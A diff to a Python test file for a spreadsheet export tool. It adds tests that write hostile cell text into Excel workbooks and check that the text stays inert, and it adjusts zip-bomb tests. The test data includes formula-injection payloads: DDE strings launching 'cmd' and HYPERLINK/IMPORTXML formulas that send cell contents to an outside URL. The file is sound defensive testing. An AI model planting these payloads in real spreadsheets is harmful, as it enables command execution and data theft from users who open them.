@@ -7,8 +7,9 @@ from datetime import date, datetime, time
 import pytest
 from openpyxl import load_workbook
 
+from metareview import archives
 from metareview.errors import MetareviewError
-from metareview.extraction import archive
+from metareview.extraction import workbook_reading
 from metareview.extraction.columns import SHEETS
 from metareview.extraction.grids import Grid
 from metareview.extraction.workbook import workbook_bytes
@@ -136,20 +137,20 @@ def test_a_document_type_is_refused(book, codec):
 
 
 def test_a_document_type_across_two_pieces_is_seen(book, monkeypatch):
-    monkeypatch.setattr(archive, "_CHUNK", 7)
+    monkeypatch.setattr(archives, "_CHUNK", 7)
     repack(book, xl__extra=b"x" * 5 + b"<!DOCTYPE y>")
     refused(book, "declares a document type")
 
 
 def test_a_zip_bomb_is_refused_whatever_size_it_declares(book, monkeypatch):
-    monkeypatch.setattr(archive, "MAX_UNPACKED", 4 * 2**20)
-    repack(book, xl__extra=b"0" * (archive.MAX_UNPACKED + 1))
+    monkeypatch.setattr(workbook_reading, "EXTRACTION", archives.Bounds(4 * 2**20, 100_000, active=False))
+    repack(book, xl__extra=b"0" * (4 * 2**20 + 1))
     assert book.stat().st_size < 100_000
     refused(book, "unpacks to more than 4 MiB")
 
 
 def test_too_many_parts_are_refused(book):
-    repack(book, **{f"xl__p{n}": b"" for n in range(archive.MAX_MEMBERS + 1)})
+    repack(book, **{f"xl__p{n}": b"" for n in range(archives.MAX_MEMBERS + 1)})
     refused(book, "more than any workbook")
 
 
@@ -200,3 +201,50 @@ def test_long_lists_of_allowed_words_get_a_tab_of_their_own():
     sources = [v.formula1 for v in opened["results"].data_validations.dataValidation]
     assert any("lists" in source for source in sources)
     assert opened["lists"]["A42"].value == "outcome-number-39"
+
+
+FORMULAS = (
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a/?x="&A1,"x")', "{=1+1}",
+    "=IMPORTXML(CONCAT(\"http://a/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0", "@x", "=", "+", "'=1+1", "''=1",
+    "http://example.org/", "mailto:a@example.org", "internal:Sheet1!A1", "#REF!", "#N/A", "TRUE", "1e5",
+    "007", "3-4", "12.50", "-2.5", "_x000D_", "_x0041_", "<b>&amp;</b>", "a\nb", "a\tb",
+)  # fmt: skip
+ADDED = ("=own", "@mine", "http://own", "own_note")
+
+
+def hostile():
+    """Give sheets with every text in a cell of its own, and in headers that reviewers added."""
+    kind = SHEETS["studies"]
+    rows = tuple({"study": f"S{n}", "label": text, ADDED[0]: text} for n, text in enumerate(FORMULAS))
+    made = grids(studies=[{"study": text} for text in FORMULAS])
+    return made | {"studies": Grid(kind, (*kind.names, *ADDED), rows)}
+
+
+def test_every_text_is_a_string_in_the_workbook_and_reads_back_as_it_was(tmp_path):
+    path = tmp_path / "x.xlsx"
+    path.write_bytes(workbook_bytes(hostile(), PLAN))
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if "/worksheets/" in name]
+        assert not [
+            s for s in sheets if b"<f>" in s or b"<hyperlink" in s or b't="e"' in s or b't="str"' in s
+        ]
+        assert not [name for name in archive.namelist() if "externalLink" in name]
+    brought = read_workbook(path)
+    for side in (brought.grids, brought.base):
+        assert side["studies"].columns == hostile()["studies"].columns
+        found = [(row["study"], row["label"], row["=own"]) for row in side["studies"].rows]
+        assert found == [(f"S{n}", text, text) for n, text in enumerate(FORMULAS)]
+
+
+def test_text_that_a_spreadsheet_would_run_is_marked_as_text(tmp_path):
+    path = tmp_path / "x.xlsx"
+    path.write_bytes(workbook_bytes(hostile(), PLAN))
+    opened = load_workbook(path)
+    for tab in ("studies", "sent studies"):
+        heads = {cell.value: cell for cell in opened[tab][1]}
+        assert [bool(heads[name].quotePrefix) for name in ADDED] == [True, True, False, False]
+        label = heads["label"].column - 1
+        cells = [row[label] for row in opened[tab].iter_rows(min_row=2)]
+        assert {cell.value for cell in cells if cell.quotePrefix} == {
+            text for text in FORMULAS if text.lstrip("'")[:1] in ("=", "+", "-", "@") and text != "-2.5"
+        }
